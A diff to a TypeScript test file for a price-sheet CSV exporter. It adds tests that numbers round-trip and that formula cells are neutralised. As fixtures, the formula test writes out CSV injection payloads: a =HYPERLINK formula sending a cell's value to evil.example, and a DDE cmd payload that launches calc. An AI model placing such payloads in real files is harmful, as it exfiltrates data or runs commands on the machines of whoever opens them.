@@ -2,7 +2,16 @@ import { readFileSync } from 'node:fs';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { PriceTable } from '../../../../engine';
-import { checkPriceTable, checkSheet, diffPrices, rowsToSheet, sheetOf, sheetToRows, tableOf } from './price-sheet';
+import {
+  checkPriceTable,
+  checkSheet,
+  diffPrices,
+  rowsToSheet,
+  sheetOf,
+  sheetToCsv,
+  tableOf,
+  type PriceSheet,
+} from './price-sheet';
 
 const fixedAttached = JSON.parse(
   readFileSync('definitions/prices/pergola/pergola-fixed-attached.json', 'utf8'),
@@ -74,13 +83,61 @@ describe('a price table as a sheet', () => {
 });
 
 describe('CSV', () => {
+  /** The exported file as the import reads it (the editor's importCsv: papaparse, then rowsToSheet). */
+  const reimport = (csv: string) => rowsToSheet(Papa.parse<string[]>(csv, { skipEmptyLines: 'greedy' }).data);
+
   it('round-trips the exported layout through papaparse', () => {
-    const csv = Papa.unparse(sheetToRows(sheetOf(fixedAttached), 'feet'));
+    const csv = sheetToCsv(sheetOf(fixedAttached), 'feet');
     expect(csv.split('\r\n')[0]).toMatch(/^length \\ width \(feet\),8,10,12/);
-    const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: 'greedy' }).data;
-    const imported = rowsToSheet(parsed);
+    const imported = reimport(csv);
     expect(imported.problems).toEqual([]);
     expect(tableOf(fixedAttached, imported.sheet!)).toEqual(fixedAttached);
+  });
+
+  it('writes numbers as numbers, a negative or decimal price too, so a re-import reads the same prices', () => {
+    const odd: PriceTable = { ...small, prices: { '8x8': -5, '8x10': 1234.5, '10x8': 0, '10x10': 0.25 } };
+    const csv = sheetToCsv(sheetOf(odd), 'feet');
+    expect(csv).toBe('length \\ width (feet),8,10\r\n8,-5,1234.5\r\n10,0,0.25\r\n');
+    expect(tableOf(odd, reimport(csv).sheet!)).toEqual(odd);
+    // As typed in the grid, spaces and all: the same prices as the sheet gives the file.
+    const typed: PriceSheet = {
+      lengths: ['8 ', '10'],
+      widths: ['8', ' 10'],
+      cells: [
+        [' -5', '110 '],
+        ['120', '130'],
+      ],
+    };
+    expect(tableOf(small, reimport(sheetToCsv(typed, 'feet')).sheet!)).toEqual(tableOf(small, typed));
+  });
+
+  it('neutralises formula cells (a price or a size typed as =HYPERLINK(...)) as the order history export does', () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?p="&B2,"Click")';
+    const sheet: PriceSheet = {
+      lengths: ['8', '@SUM(A1)'],
+      widths: ['8', '+10'],
+      cells: [
+        [hyperlink, "-5+cmd|' /C calc'!A0"],
+        ['\t=1+1', ' =2+2'],
+      ],
+    };
+    const csv = sheetToCsv(sheet, 'inches');
+    expect(csv.split('\r\n')).toEqual([
+      "length \\ width (inches),8,'+10",
+      `8,"'=HYPERLINK(""http://evil.example/?p=""&B2,""Click"")",'-5+cmd|' /C calc'!A0`,
+      "'@SUM(A1),'\t=1+1,' =2+2",
+      '',
+    ]);
+    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: 'greedy' }).data.flat();
+    const isPlainNumber = (cell: string) => /^\s*-?\d+(?:\.\d+)?\s*$/.test(cell);
+    for (const cell of cells)
+      expect(isPlainNumber(cell) || !/^(?:[\t\r]|\s*[=+\-@])/.test(cell), JSON.stringify(cell)).toBe(true);
+    // The import reads the neutralised text as it was written: not a price, refused at its cell as before the export.
+    const imported = reimport(csv);
+    expect(imported.sheet?.cells[0][0]).toBe(`'${hyperlink}`);
+    expect(checkSheet(imported.sheet!, { ...small, unit: 'inches' }).map((problem) => problem.message)).toContain(
+      `8 × 8: “'${hyperlink}” is not a number of dollars`,
+    );
   });
 
   it('reads one price a line too, and refuses a size that appears twice, naming the lines', () => {
